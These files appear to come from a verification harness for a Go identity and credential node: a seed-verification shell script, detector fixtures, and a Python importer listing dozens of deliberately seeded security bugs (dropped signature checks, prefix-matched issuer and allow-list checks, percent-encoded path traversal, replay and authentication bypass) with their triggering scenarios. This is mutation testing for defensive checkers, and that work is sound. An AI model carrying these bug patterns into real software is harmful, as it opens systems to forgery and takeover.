#!/bin/bash
# usage: verify_seed.sh <seed-dir> <dest-pkg-dir>   — confirms in a scratch worktree that the patch compiles, the existing tests of
# the touched package pass, and the demonstration fails with the patch and passes without it. Writes <seed-dir>/verify.txt.
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
SEED=$1; DEST=$2
ID=$(basename $SEED)
WT=/tmp/vs/$ID
OUT=$SEED/verify.txt
mkdir -p /tmp/vs; rm -rf $WT; git -C /repo worktree prune
git -C /repo worktree add -q --detach $WT HEAD || exit 2
cd $WT
{
echo "seed=$ID dest=$DEST base=$(git rev-parse --short HEAD) date=$(date -u +%FT%TZ)"
if ! git apply --check $SEED/patch.diff 2>&1; then echo "RESULT: patch does not apply"; cd /; git -C /repo worktree remove --force $WT; exit 1; fi
git apply $SEED/patch.diff
TOUCHED=$(git diff --name-only | xargs -n1 dirname | sort -u | sed 's#^#./#' | tr '\n' ' ')
echo "touched packages: $TOUCHED"
if go build ./... 2>&1 | tail -5 | grep -q .; then echo "RESULT: build failed"; else echo "build ok"; fi
echo "--- existing tests of touched packages (with patch)"
go test -count=1 $TOUCHED 2>&1 | grep -E "^(ok|FAIL|---|panic)" | head -20
DEMOS=$(ls $SEED/*_test.go 2>/dev/null)
cp $DEMOS $DEST/
PAT=$(grep -ho "^func Test[A-Za-z0-9_]*" $DEMOS | sed 's/func //' | paste -sd'|')
echo "--- demo with patch (expect FAIL): -run '$PAT'"
go test -count=1 -run "^($PAT)\$" ./$DEST 2>&1 | grep -E "^(ok|FAIL|--- FAIL|panic)" | head -8
W=$?
for f in $DEMOS; do mv $DEST/$(basename $f) /tmp/vs/$ID.$(basename $f).keep; done
git apply -R $SEED/patch.diff
for f in $DEMOS; do mv /tmp/vs/$ID.$(basename $f).keep $DEST/$(basename $f); done
echo "--- demo without patch (expect ok)"
go test -count=1 -run "^($PAT)\$" ./$DEST 2>&1 | grep -E "^(ok|FAIL|--- FAIL|panic)" | head -8
} > $OUT 2>&1
cd /; git -C /repo worktree remove --force $WT
tail -12 $OUT
