// Package fixture is a positive control for the C19 panic-site detectors.
package fixture

import (
	"crypto/elliptic"
	"errors"
	"net/url"
)

type opt struct {
	Name *string `json:"name,omitempty"`
}

type comp struct {
	recv *url.URL
}

func (c *comp) checked() bool {
	if c.recv != nil {
		return true
	}
	return false
}

func (c *comp) use() string { return c.recv.String() } // D4: compared with nil elsewhere, used unguarded here

func d1(v interface{}) string { return v.(string) } // D1

func d2(o opt) string { return *o.Name } // D2

func d3(raw string) string { // D3
	u, _ := url.Parse(raw)
	return u.Host
}

func d5(err error) {
	if err != nil {
		panic(errors.New("boom")) // D5
	}
}

func find(k string) (*url.URL, error) {
	if k == "" {
		return nil, nil
	}
	return url.Parse(k)
}

func d6(k string) string { // D6
	u, err := find(k)
	if err != nil {
		return ""
	}
	return u.Host
}

type req struct {
	Count *int `json:"count,omitempty"`
	N     int  `json:"n"`
}

func d7(r req, xs []string) []string { // D7: only the upper bound is checked
	if r.Count != nil && len(xs) >= *r.Count {
		return xs[:*r.Count]
	}
	return xs[:r.N] // D7: not checked at all
}

func d7ok(r req, xs []string) []string { // guarded on both sides: not reported
	if r.N >= 0 && r.N <= len(xs) {
		return xs[:r.N]
	}
	return nil
}

func d8(ref []byte) [32]byte { // D8: a short ref panics
	return [32]byte(ref)
}

func d8ok(ref []byte) [32]byte { // guarded: not reported
	if len(ref) != 32 {
		return [32]byte{}
	}
	return [32]byte(ref)
}

func d9(subject interface{}, id string) { // D9: a subject that is not an object leaves m nil; the assignment panics
	m, _ := subject.(map[string]interface{})
	if _, has := m["id"]; !has {
		m["id"] = id
	}
}

func d9ok(subject interface{}, id string) { // ok established: not reported
	m, ok := subject.(map[string]interface{})
	if !ok {
		return
	}
	m["id"] = id
}

func d10(curve elliptic.Curve, b []byte) int { // D10: bytes that are no curve point give nil coordinates
	x, _ := elliptic.UnmarshalCompressed(curve, b)
	return x.BitLen()
}

func d10ok(curve elliptic.Curve, b []byte) int { // nil test: not reported
	x, _ := elliptic.UnmarshalCompressed(curve, b)
	if x == nil {
		return 0
	}
	return x.BitLen()
}

var _ = []interface{}{d9, d9ok, d10, d10ok, d8, d8ok, d6, d1, d2, d3, d5, d7, d7ok, (*comp).use, (*comp).checked}
