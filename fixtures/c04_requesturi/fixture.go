// Package fixture is a positive control for the C04 guard-source detector: a skipper that decides on RequestURI.
package fixture

import (
	"net/http"
	"strings"
)

func matches(uri, path string) bool { return strings.HasPrefix(uri, path) }

func skipper(r *http.Request) bool {
	return !matches(r.RequestURI, "/internal")
}

var _ = skipper
