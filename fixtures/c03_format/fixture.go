// Package fixture is a positive control for the C03 "private key value reaches a formatting / logging sink" rule.
package fixture

import (
	"crypto"
	"crypto/ecdsa"
	"errors"
	"fmt"
	"log"
)

// leakVariadic: a private key (as crypto.Signer) formatted into an error — must be reported.
func leakVariadic(kid string, key crypto.Signer) error {
	return fmt.Errorf("unsupported key (kid=%s): %v", kid, key)
}

// leakDirect: a concrete private key handed to a logger — must be reported.
func leakDirect(key *ecdsa.PrivateKey) {
	log.Println(key)
}

// fine: only the public part and the kid are formatted — must NOT be reported.
func fine(kid string, key crypto.Signer) error {
	if key == nil {
		return errors.New("no key")
	}
	return fmt.Errorf("unsupported key (kid=%s, public=%v)", kid, key.Public())
}

type cachingHolder struct {
	byKid  map[string]crypto.Signer
	last   crypto.Signer
	shared syncMapLike
}

type syncMapLike interface{ Store(key, value any) }

// cacheInMap / cacheInField / cacheInSyncMap: a private key retained beyond the operation — must be reported.
func (h *cachingHolder) cacheInMap(kid string, key crypto.Signer)     { h.byKid[kid] = key }
func (h *cachingHolder) cacheInField(key crypto.Signer)               { h.last = key }
func (h *cachingHolder) cacheInSyncMap(kid string, key crypto.Signer) { h.shared.Store(kid, key) }

// useOnly: the key is used and dropped — must NOT be reported.
func (h *cachingHolder) useOnly(key crypto.Signer) crypto.PublicKey { return key.Public() }

// referenced so that the methods are part of the built program
func useAll(h *cachingHolder, k crypto.Signer) {
	h.cacheInMap("k", k)
	h.cacheInField(k)
	h.cacheInSyncMap("k", k)
	_ = h.useOnly(k)
}
