module fixtures

go 1.23
