#!/bin/bash
# usage: neutral_matrix.sh <dir-with-<id>/patch.diff> [ids...] — applies each behaviour-preserving patch to /repo, runs all quick
# checks (scratch evidence), undoes it, and prints which checks raised an alarm (= false alarms to analyse).
set -u
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
cd /verif
DIR=$1; shift
[ -z "$(git -C /repo status --porcelain)" ] || { echo "/repo is not clean"; exit 2; }
IDS=${@:-$(ls $DIR | grep -E '^(C[0-9]+-n[0-9]+|N2-[A-Z0-9]+|N3-C[0-9]+-[0-9]+)$')}
PROPS=$(python3 -c "import json;print(' '.join(c['property_id'] for c in json.load(open('MANIFEST.json'))['checks']))")
for s in $IDS; do
  d=$DIR/$s
  if ! git -C /repo apply --check $d/patch.diff 2>/dev/null; then echo "$s: patch does not apply"; continue; fi
  git -C /repo apply $d/patch.diff
  T=$(mktemp -d /tmp/neutmXXXX)
  for p in $PROPS; do
    ( mkdir -p $T/$p; cp known_findings.json $T/$p/
      for attempt in 1 2 3 4 5; do
        ./bin/verifcheck -prop $p -tier quick -repo /repo -verif $T/$p > $T/$p.out 2>&1; echo $? > $T/$p.rc
        if grep -q "without types\|\[load\]" $T/$p.out; then sleep 5; continue; fi
        break
      done ) &
  done
  wait
  git -C /repo checkout -- . ; git -C /repo clean -fdq -- . 2>/dev/null
  res=""
  for p in $PROPS; do
    if [ "$(cat $T/$p.rc)" != "0" ]; then res="$res $p:$(grep -E '^(VIOLATED|UNDECIDED|ANCHOR-LOST)' $T/$p.out | sed 's/^[A-Z-]*: //' | cut -c1-160 | tr '\n' ';')"; fi
  done
  echo "$s ->${res:- ok}"
  rm -rf $T
done
