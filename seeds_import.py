#!/usr/bin/env python3
"""Imports verified seeded changes from /tmp/seeds into /verif/seeded/<id>/ (patch.diff, demo, meta.json)."""
import json, os, shutil, glob, sys
DESC = {
 "C01-a": ("vcr/verifier doVerifyVP: holder==issuer comparison dropped, so a VP with `holder` set skips signature checks of proof-less embedded credentials of any issuer", "a presentation with holder property and a proof-stripped credential of a trusted issuer"),
 "C01-b": ("vcr/revocation Credential(): record built in place instead of Preload(Revocations): re-issued status list has an empty bitstring", "a nearly expired status list being re-issued after revocations"),
 "C01-c": ("verifier jwtSignature: kid-belongs-to-issuer check uses strings.HasPrefix(keyID, issuer) instead of comparing the part before '#'", "JWT VC of issuer did:web:example.com signed by did:web:example.com:iam:mallory"),
 "C01-d": ("verifier Verify: with validAt == nil the signature is verified at &cred.IssuanceDate (signer-chosen) instead of the validation time", "backdated credential signed with a rotated-out assertion key"),
 "C02-a": ("iam handleS2SAccessTokenRequest: VerifyVP called with validAt = presentation creation date when in the future", "a post-dated presentation"),
 "C02-b": ("iam introspectAccessToken: reserved-claim list replaced by JSON keys present in the response (omitempty pointers unprotected)", "constraint field id cnf/sub/aud and a token without DPoP"),
 "C02-c": ("policy LocalPDP.PresentationDefinitions: unknown scope string falls back to the first entry of the space-delimited scope list; the token keeps the full requested scope", "request for 'example-scope admin-scope' with only the example-scope credential"),
 "C02-d": ("iam validateS2SPresentationNonce: Get + error classification simplified to nonceStore.Exists(nonce) (false on store errors)", "store read fault at the moment of a replay"),
 "C03-c": ("crypto findKeyReferenceByKid: Where(\"kid = ?\", kid) replaced by the GORM struct condition Where(&orm.KeyReference{KID: kid}); zero-valued fields are dropped, so kid \"\" matches the first row", "an operation with an empty kid"),
 "C03-d": ("crypto setupStorageAPIBackend: the external backend is no longer wrapped in NewValidatedKIDBackendWrapper", "key names '.' / '..' with the external store"),
 "C03-a": ("crypto SignJWS: private-JWK-in-header guard type-switches on EC/RSA only, misses OKP private keys", "an Ed25519 private JWK in the jwk header"),
 "C03-b": ("crypto/storage/vault privateKeyPath: key name PathUnescape'd after filepath.Base", "key name ..%2F..%2Fsecret%2F..."),
 "C04-a": ("tokenV2 middleware: issuer check replaced by isRegisteredUser(iss) accepting any authorised user's name", "two authorised keys; holder of key B signs iss=A"),
 "C04-b": ("http Engine.Configure: internal binds skipped when Internal.Address is empty; routes fall back to the public listener", "empty internal address in configuration"),
 "C04-c": ("tokenV2 middleware: 'verified credential' cache keyed by the raw bearer string; a hit skips signature verification, jwt.Validate and the best-practice checks", "use a token, let it expire, reuse it"),
 "C04-d": ("http applyAuthMiddleware: missing authorized_keys file (os.ErrNotExist) logs a warning and returns nil before the authenticator is installed", "token_v2 configured, key file absent at start-up"),
 "C05-c": ("iam handleAccessTokenRequest: code looked up with Get instead of GetAndDelete, relying on the deferred Delete", "second redemption arriving while the first is still processing"),
 "C05-d": ("storage SessionStoreImpl.GetAndDelete ends with return s.Delete(key), which maps a cache miss to nil", "two concurrent burns on the memcached session store"),
 "C05-a": ("iam validateS2SPresentationNonce: nonce stored with TTL time.Until(VP expiry)", "presentation submitted near/after expiry within the accepted skew, then replayed"),
 "C05-b": ("iam HandleTokenRequest: authorization_code branch returns early for missing code_verifier/client_id before the handler with the deferred burn", "a failed redemption attempt lacking a parameter, then a valid one"),
 "C06-a": ("dag state.Add: second isPresent check inside the write transaction removed", "two concurrent Add calls for the same transaction"),
 "C06-b": ("dag SourceTXKeyResolver.ResolvePublicKey: falls back to the latest document when no prev denotes a version", "transaction signed with a key added after the referenced history"),
 "C06-c": ("dag NewPrevTransactionsVerifier: loop over prevs breaks as soon as a prev with LC = tx.LC-1 is found; later prevs are never loaded", "crafted multi-prev transaction whose missing prev sorts after the LC-1 prev"),
 "C06-d": ("dag ParseTransaction: clean-up refactor loses the 'more than one signature' rejection", "JSON-serialised JWS with forged first signature and a genuine second one"),
 "C07-a": ("v2 handleTransactionSet: next-page guard compares with localPageNum instead of reqPageNum", "page at LC>=512 differing by more than the IBLT decodes, peer not on a higher page"),
 "C07-b": ("gossip peerQueue.enqueue: xor/clock update moved after the loop, skipped on the full-queue early return", "burst of >100 transactions between gossips"),
 "C08-c": ("dag state.Add: second isPresent check inside the write transaction dropped ('dag.add is idempotent')", "two overlapping Add calls for the same new transaction"),
 "C08-d": ("dag/tree tree.Load: parent without right child gets left.data instead of left.data.Clone() (shared object)", "page count not a power of two, reload from disk, then an add on the last page"),
 "C07-c": ("gossip callSenders: 'idle traffic' optimisation skips the periodic gossip when the peer's queue is empty and the XOR equals the last one sent", "one lost gossip message / a sync needing more than one pull"),
 "C07-d": ("dag updateState: monotonic-max CAS loop on lamportClockHigh replaced by a plain Store", "syncing a transaction from an old branch, peer more than one IBLT behind"),
 "C08-a": ("dag loadState uses a raise-only helper instead of Store: rollback keeps lamportClockHigh of a never-stored tx", "write transaction failing late after updateState"),
 "C08-b": ("dag xorTreeRepair.checkPage recomputes the page XOR in a separate read tx before the write lock", "an Add on that page committing between read and write"),
 "C09-c": ("didnuts handleUpdateDIDDocument: on ErrNotFound in the fallback the proposed document becomes its own base version", "kid-signed update for a DID the node does not know"),
 "C09-d": ("didnuts verificationMethodValidator.Validate: loop body extracted into a helper that passes method.Controller instead of document.ID to verifyDocumentEntryID", "verification method with a foreign controller and a foreign-DID-prefixed id"),
 "C09-a": ("didnuts handleUpdateDIDDocument: fast path for unchanged payload hash calls didStore.Add without controller/key check", "stranger replays v1 bytes after key rotation"),
 "C09-b": ("didnuts resolveControllers: orphaned-document fallback treats the document as its own controller when no external controller resolves", "controlled document listing its own key + backdated signing time"),
 "C10-c": ("didstore Add: the first write (document + tx-ref index) merged into the second write transaction; on Redis a write tx cannot read its own writes", "transaction arriving after a later-sorting event that does not reference it, Redis backend"),
 "C10-d": ("didstore applyDocument (merge branch): Deactivated recomputed from the merged document", "deactivation in conflict with a parallel update"),
 "C10-a": ("didstore applyFrom: already-conflicted flag from base metadata instead of the conflicted shelf", "three parallel updates, first-sorting one arriving last"),
 "C10-b": ("didstore writeEventList: MetaRef only set when empty", "out-of-order insert followed by another Add"),
 "C11-a": ("revocation Credential(): list loaded and signed before the transaction; only lock+upsert inside", "revocation committing during the signing window of a refresh"),
 "C11-b": ("revocation verifier update(): OnConflict explicit column list omits bitstring", "cache, revoke, refresh, verify again within 15 min"),
 "C11-c": ("verifier RegisterRevocation: subject-belongs-to-issuer check uses strings.HasPrefix(subject, issuer) instead of comparing the DID before '#'", "a correctly signed revocation from a DID that is a string prefix of the victim issuer's DID"),
 "C11-d": ("statuslist2021 Revoke(): failure of the final upsert of the re-issued status_list_credential row is logged and ignored", "write fault on the credential row while the revocation row commits"),
 "C12-a": ("pe matchSubmissionRequirements: descriptor map emitted in input-descriptor order (no longer aligned with vcs)", "submission-requirement order differing from descriptor order"),
 "C12-b": ("pe vcEqual: fast path compares by credential id", "two distinct credentials sharing an id with submission requirements"),
 "C12-c": ("pe PresentationSubmission.Resolve: a second descriptor-map entry for an already resolved input descriptor is skipped with continue instead of being an error", "surplus/forged second mapping after a correct first one"),
 "C12-d": ("pe CredentialsRequired: with submission requirements and no 'all' rule and no 'pick' with min>0 it returns false (overlooks pick with count)", "unfulfillable 'pick count 1' definition: Build returns an empty submission, Validate accepts an empty one"),
 "C13-a": ("didsubject transactionHelper: commit loop continues after a failing Commit; errManager overwritten by a later success", "two methods, failing one visited first (map order)"),
 "C13-b": ("didsubject Rollback: sweep decides per document version instead of per transaction id", "process stop between DB write and publish with two methods"),
 "C13-c": ("didsubject SqlManager.Create: subject-exists check moved out of the DB transaction, in front of transactionHelper ('fail fast')", "two overlapping Create calls for the same subject"),
 "C13-d": ("didsubject transactionHelper: did_change_log records not saved when fewer than 2 documents changed (every single-method node)", "stop between the DB write and the publish"),
 "C14-a": ("dag state.Add: payload written and payload event saved only if the payload hash is not yet stored", "two transactions with byte-identical payload"),
 "C14-b": ("dag notifier: Event.failed() (Retries>=10) used in Run() instead of Retries<maxRetries", ">=10 failures, restart, failure at startup"),
 "C14-c": ("dag notifier Notify(): retry decision changed from !errors.As(err, new(EventFatal)) to retry.IsRecoverable(err); notifyNow wraps storage errors as unrecoverable", "transient DB fault during the first delivery attempt"),
 "C14-d": ("dag state.WritePayload: single write transaction split in two (payload first, subscriber events in a second transaction)", "stop / cancel / Save failure between the two"),
 "C15-a": ("grpc authenticate(): shortcut marks peer authenticated when the claimed node DID already has an authenticated connection", "node claiming a connected participant's DID"),
 "C15-b": ("dag State.Add: for a present tx with missing payload, stores the supplied payload without hash check", "peer sends forged payload in a transaction list for a known private tx"),
 "C15-c": ("v2 handleTransactionRangeQuery: builds the list itself (payload of every transaction, tolerating ErrPayloadNotFound) instead of calling collectTransactionList: the PAL filter is lost", "any peer sends a TransactionRangeQuery covering a private transaction this node participates in"),
 "C15-d": ("v2 handleTransactionPayloadQuery: grant remembered per (self-asserted) peer ID in a sync.Map, checked before the Authenticated / PAL checks", "participant fetches the payload, then an unauthenticated connection presents the same peer ID"),
 "C16-a": ("discovery validateRetraction: existence looked up by JWT sub claim instead of the presentation signer", "retraction with sub different from signer"),
 "C16-b": ("discovery wipeOnSeedChange: gorm Updates(struct) skips zero LastLamportTimestamp", "server seed change with lower timestamps"),
 "C16-c": ("discovery updateValidated: one batched UPDATE keyed on presentation_id (the VP's jti) instead of the row's primary key", "same jti on two rows (replay on a second service / forged VP reusing an id)"),
 "C16-d": ("discovery sqlStore.get: the two non-transactional reads swapped (entries first, service row/timestamp last)", "registration committing between the two SELECTs"),
 "C17-a": ("dpop jwkIsPrivateKey: type switch on RSA/EC private JWK only, forgets OKP", "EdDSA DPoP proof embedding an Ed25519 private key"),
 "C17-b": ("dag ParseTransaction: multiple-signature branch dropped", "JSON-serialised transaction with a forged first signature and the victim's signature second"),
 "C17-c": ("ldproof LDProof.Verify: signature algorithm taken from the alg header of the detached JWS instead of from the key, never checked against the allow-list", "proof made with RS256"),
 "C17-d": ("verifier jwtSignature: key-belongs-to-issuer check changed to !strings.HasPrefix(keyID, issuer)", "JWT VC of did:web:example.com:iam:alice signed by a key of ...:alice-evil"),
 "C18-a": ("didweb Resolve: id check compares Method and percent-decoded ID instead of Equals", "did:web with %3A port vs ':'"),
 "C18-b": ("resolver ChainedDIDResolver: continues on any functional resolve error, not only ErrNotFound", "locally managed did:web deactivated, then resolved"),
 "C18-c": ("didweb DIDToURL: IP test done before building the URL on the decoded id which still carries the port", "did:web:127.0.0.1%3A8443"),
 "C18-d": ("didsubject Resolver.Resolve: deactivation check only enforced when no ResolveTime is given", "created-then-deactivated managed DID resolved with ResolveTime set"),
 "C19-a": ("didnuts handleUpdateDIDDocument: resolve helper swallows ErrNotFound also in the latest-version fallback, returning (nil, nil) that is dereferenced", "update transaction for a DID whose create was never received"),
 "C19-b": ("tree Iblt.Decode: visited-set loop guard removed", "peer IBLT crafted so that decoding cycles"),
 "C19-c": ("v2 conversation.go: checked type assertions in Envelope_State.checkResponse / Envelope_TransactionListQuery.checkResponse became unchecked", "peer answers an open conversation with the wrong envelope type reusing the conversation id"),
 "C19-d": ("pe apply(): collects the non-empty members then slices selected[:*Count] / selected[:*Max]", "remote presentation definition with count/max -1"),
 "C20-a": ("core loadFromFlagSet: flags.Visit with err overwritten by later flags", "secret flag followed by a later-sorting non-secret flag"),
 "C20-b": ("http configureClient: early return for ResponseCacheSize<=0 placed above client.StrictMode assignment", "http.cache.maxbytes=0 in strict mode"),
 "C20-c": ("jsonld filteredDocumentLoader.LoadDocument: allow-list entries matched with strings.HasPrefix(u, allowedURL) instead of ==", "https://schema.org.attacker.tld/... in strict mode"),
 "C20-d": ("core ServerConfig.Load: moved-key refusal checks ngc.LegacyTLS.Enabled() (ignores the trust store) instead of the three legacy fields", "config carrying only network.truststorefile"),
}
# round 3 (blind): result of the first run of the finished rule set on the seed, and what was done about a miss
BLIND = {
 "C01-c": ("caught", ""),
 "C01-d": ("missed", "blind miss; added C01.time.* (the validation time is handed down unchanged)"),
 "C02-c": ("missed", "blind miss; added C02.policy.exact-scope / C02.policy.unknown-scope-fails / C02.policy.scope-verbatim"),
 "C02-d": ("caught", ""),
 "C03-c": ("missed", "blind miss; added the module-wide GORM zero-value rule (no struct conditions) as C03.kid-lookup.*"),
 "C03-d": ("caught", ""),
 "C04-c": ("caught", ""),
 "C04-d": ("missed", "blind miss; added C04.install.* (the guard must actually be installed)"),
 "C05-c": ("caught", ""),
 "C05-d": ("missed", "blind miss; added C05.burn.delete-error-decides (the burn primitive succeeds only if the raw delete reported success)"),
 "C06-c": ("missed", "blind miss; the ForEach gate semantics were completed: no early exit that still reaches the effect, no sub-slice range"),
 "C06-d": ("caught", ""),
 "C07-c": ("missed", "blind miss; added C07.progress.gossip-heartbeat-unconditional / gossip-ticker-calls-senders"),
 "C07-d": ("missed", "blind miss; added C08.clock.* (the highest clock is only raised on admission, overwritten only on reload)"),
 "C08-c": ("caught", "by C06 (same site as C06-a)"),
 "C08-d": ("caught", "by C19.D4 only (incidental); added C08.tree.no-shared-data afterwards"),
 "C09-c": ("caught", ""),
 "C09-d": ("caught", ""),
 "C11-c": ("caught", ""),
 "C11-d": ("missed", "blind miss; added C11.revoke.effective-or-fails.* (Revoke succeeds only if the list was rebuilt and stored)"),
 "C12-c": ("missed", "blind miss; added C12.resolve.duplicate-descriptor-is-rejected (REFUSE, not merely 'not recorded')"),
 "C12-d": ("missed", "blind miss; added C12.credentials-required.false-only-without-descriptors"),
 "C13-c": ("missed", "blind miss; added C13.create.exists-check-in-tx / generate-only-if-absent"),
 "C13-d": ("caught", ""),
 "C14-c": ("missed", "blind miss; added C14.notify.failed-live-delivery-is-retried / retry-decision-only-after-failure"),
 "C14-d": ("missed", "blind miss; added C14.save.writepayload-same-tx"),
 "C15-c": ("caught", ""),
 "C15-d": ("caught", ""),
 "C16-c": ("missed", "blind miss; added C16.store.validated-flag-by-primary-key"),
 "C16-d": ("caught", ""),
 "C17-c": ("caught", ""),
 "C17-d": ("caught", "by C01.jwt.kid-of-issuer"),
 "C18-c": ("caught", "by C18.url.ip-test-on-hostname, added an hour earlier after a hand-written mutant survived"),
 "C18-d": ("caught", ""),
 "C19-c": ("caught", "also by C07.checkResponse.*.type"),
 "C19-d": ("missed", "blind miss; added detector D7 (a number decoded from input used as slice bound / index / allocation size without lower- and upper-bound comparisons)"),
 "C20-c": ("missed", "blind miss; added C20.jsonld.filter-is-exact-match"),
 "C20-d": ("caught", ""),
 "C10-c": ("missed", "blind miss; added C10.add.two-phase-write"),
 "C10-d": ("caught", ""),
}
os.makedirs('/verif/seeded', exist_ok=True)
for sid,(what,needs) in sorted(DESC.items()):
    src='/tmp/seeds/'+sid
    if not os.path.exists(src+'/patch.diff') or not os.path.exists(src+'/verify.txt'):
        print('skip',sid); continue
    dst='/verif/seeded/'+sid
    os.makedirs(dst, exist_ok=True)
    shutil.copy(src+'/patch.diff', dst+'/patch.diff')
    demos=glob.glob(src+'/*_test.go')
    for d in demos: shutil.copy(d, dst+'/'+os.path.basename(d)+'.txt' if False else dst+'/'+os.path.basename(d))
    if os.path.exists(src+'/README.md'): shutil.copy(src+'/README.md', dst+'/README.agent.md')
    ver=open(src+'/verify.txt').read()
    dest=ver.split('dest=')[1].split()[0]
    meta={"id":sid,"property":sid.split('-')[0],"what_changed":what,"needs_to_manifest":needs,
          "demo_files":[os.path.basename(d) for d in demos],"demo_goes_in":dest,
          "verified":{"how":"verify_seed.sh in a scratch git worktree of /repo HEAD (removed afterwards): git apply; go build ./...; existing tests of touched packages; demo with patch (must fail); demo without patch (must pass)","log":ver.strip().splitlines()},
          "source":"independent sub-agent given only the property text and its own scratch worktree"}
    old={}
    if os.path.exists(dst+'/meta.json'):
        old=json.load(open(dst+'/meta.json'))
    for k in ('detected_by','check_result','blind','rule_history'):
        if k in old: meta[k]=old[k]
    b=BLIND.get(sid)
    if b: meta['blind'],meta['rule_history']=b[0],b[1]
    json.dump(meta,open(dst+'/meta.json','w'),indent=1)
    print('imported',sid)
