#!/usr/bin/env python3
"""Imports verified seeded changes from /tmp/seeds into /verif/seeded/<id>/ (patch.diff, demo, meta.json)."""
import json, os, shutil, glob, sys
DESC = {
 "C01-a": ("vcr/verifier doVerifyVP: holder==issuer comparison dropped, so a VP with `holder` set skips signature checks of proof-less embedded credentials of any issuer", "a presentation with holder property and a proof-stripped credential of a trusted issuer"),
 "C01-b": ("vcr/revocation Credential(): record built in place instead of Preload(Revocations): re-issued status list has an empty bitstring", "a nearly expired status list being re-issued after revocations"),
 "C02-a": ("iam handleS2SAccessTokenRequest: VerifyVP called with validAt = presentation creation date when in the future", "a post-dated presentation"),
 "C02-b": ("iam introspectAccessToken: reserved-claim list replaced by JSON keys present in the response (omitempty pointers unprotected)", "constraint field id cnf/sub/aud and a token without DPoP"),
 "C03-a": ("crypto SignJWS: private-JWK-in-header guard type-switches on EC/RSA only, misses OKP private keys", "an Ed25519 private JWK in the jwk header"),
 "C03-b": ("crypto/storage/vault privateKeyPath: key name PathUnescape'd after filepath.Base", "key name ..%2F..%2Fsecret%2F..."),
 "C04-a": ("tokenV2 middleware: issuer check replaced by isRegisteredUser(iss) accepting any authorised user's name", "two authorised keys; holder of key B signs iss=A"),
 "C04-b": ("http Engine.Configure: internal binds skipped when Internal.Address is empty; routes fall back to the public listener", "empty internal address in configuration"),
 "C05-a": ("iam validateS2SPresentationNonce: nonce stored with TTL time.Until(VP expiry)", "presentation submitted near/after expiry within the accepted skew, then replayed"),
 "C05-b": ("iam HandleTokenRequest: authorization_code branch returns early for missing code_verifier/client_id before the handler with the deferred burn", "a failed redemption attempt lacking a parameter, then a valid one"),
 "C06-a": ("dag state.Add: second isPresent check inside the write transaction removed", "two concurrent Add calls for the same transaction"),
 "C06-b": ("dag SourceTXKeyResolver.ResolvePublicKey: falls back to the latest document when no prev denotes a version", "transaction signed with a key added after the referenced history"),
 "C07-a": ("v2 handleTransactionSet: next-page guard compares with localPageNum instead of reqPageNum", "page at LC>=512 differing by more than the IBLT decodes, peer not on a higher page"),
 "C07-b": ("gossip peerQueue.enqueue: xor/clock update moved after the loop, skipped on the full-queue early return", "burst of >100 transactions between gossips"),
 "C08-a": ("dag loadState uses a raise-only helper instead of Store: rollback keeps lamportClockHigh of a never-stored tx", "write transaction failing late after updateState"),
 "C08-b": ("dag xorTreeRepair.checkPage recomputes the page XOR in a separate read tx before the write lock", "an Add on that page committing between read and write"),
 "C09-a": ("didnuts handleUpdateDIDDocument: fast path for unchanged payload hash calls didStore.Add without controller/key check", "stranger replays v1 bytes after key rotation"),
 "C09-b": ("didnuts resolveControllers: orphaned-document fallback treats the document as its own controller when no external controller resolves", "controlled document listing its own key + backdated signing time"),
 "C10-a": ("didstore applyFrom: already-conflicted flag from base metadata instead of the conflicted shelf", "three parallel updates, first-sorting one arriving last"),
 "C10-b": ("didstore writeEventList: MetaRef only set when empty", "out-of-order insert followed by another Add"),
 "C11-a": ("revocation Credential(): list loaded and signed before the transaction; only lock+upsert inside", "revocation committing during the signing window of a refresh"),
 "C11-b": ("revocation verifier update(): OnConflict explicit column list omits bitstring", "cache, revoke, refresh, verify again within 15 min"),
 "C12-a": ("pe matchSubmissionRequirements: descriptor map emitted in input-descriptor order (no longer aligned with vcs)", "submission-requirement order differing from descriptor order"),
 "C12-b": ("pe vcEqual: fast path compares by credential id", "two distinct credentials sharing an id with submission requirements"),
 "C13-a": ("didsubject transactionHelper: commit loop continues after a failing Commit; errManager overwritten by a later success", "two methods, failing one visited first (map order)"),
 "C13-b": ("didsubject Rollback: sweep decides per document version instead of per transaction id", "process stop between DB write and publish with two methods"),
 "C14-a": ("dag state.Add: payload written and payload event saved only if the payload hash is not yet stored", "two transactions with byte-identical payload"),
 "C14-b": ("dag notifier: Event.failed() (Retries>=10) used in Run() instead of Retries<maxRetries", ">=10 failures, restart, failure at startup"),
 "C15-a": ("grpc authenticate(): shortcut marks peer authenticated when the claimed node DID already has an authenticated connection", "node claiming a connected participant's DID"),
 "C15-b": ("dag State.Add: for a present tx with missing payload, stores the supplied payload without hash check", "peer sends forged payload in a transaction list for a known private tx"),
 "C16-a": ("discovery validateRetraction: existence looked up by JWT sub claim instead of the presentation signer", "retraction with sub different from signer"),
 "C16-b": ("discovery wipeOnSeedChange: gorm Updates(struct) skips zero LastLamportTimestamp", "server seed change with lower timestamps"),
 "C17-a": ("dpop jwkIsPrivateKey: type switch on RSA/EC private JWK only, forgets OKP", "EdDSA DPoP proof embedding an Ed25519 private key"),
 "C17-b": ("dag ParseTransaction: multiple-signature branch dropped", "JSON-serialised transaction with a forged first signature and the victim's signature second"),
 "C18-a": ("didweb Resolve: id check compares Method and percent-decoded ID instead of Equals", "did:web with %3A port vs ':'"),
 "C18-b": ("resolver ChainedDIDResolver: continues on any functional resolve error, not only ErrNotFound", "locally managed did:web deactivated, then resolved"),
 "C19-a": ("didnuts handleUpdateDIDDocument: resolve helper swallows ErrNotFound also in the latest-version fallback, returning (nil, nil) that is dereferenced", "update transaction for a DID whose create was never received"),
 "C19-b": ("tree Iblt.Decode: visited-set loop guard removed", "peer IBLT crafted so that decoding cycles"),
 "C20-a": ("core loadFromFlagSet: flags.Visit with err overwritten by later flags", "secret flag followed by a later-sorting non-secret flag"),
 "C20-b": ("http configureClient: early return for ResponseCacheSize<=0 placed above client.StrictMode assignment", "http.cache.maxbytes=0 in strict mode"),
}
os.makedirs('/verif/seeded', exist_ok=True)
for sid,(what,needs) in sorted(DESC.items()):
    src='/tmp/seeds/'+sid
    if not os.path.exists(src+'/patch.diff') or not os.path.exists(src+'/verify.txt'):
        print('skip',sid); continue
    dst='/verif/seeded/'+sid
    os.makedirs(dst, exist_ok=True)
    shutil.copy(src+'/patch.diff', dst+'/patch.diff')
    demos=glob.glob(src+'/*_test.go')
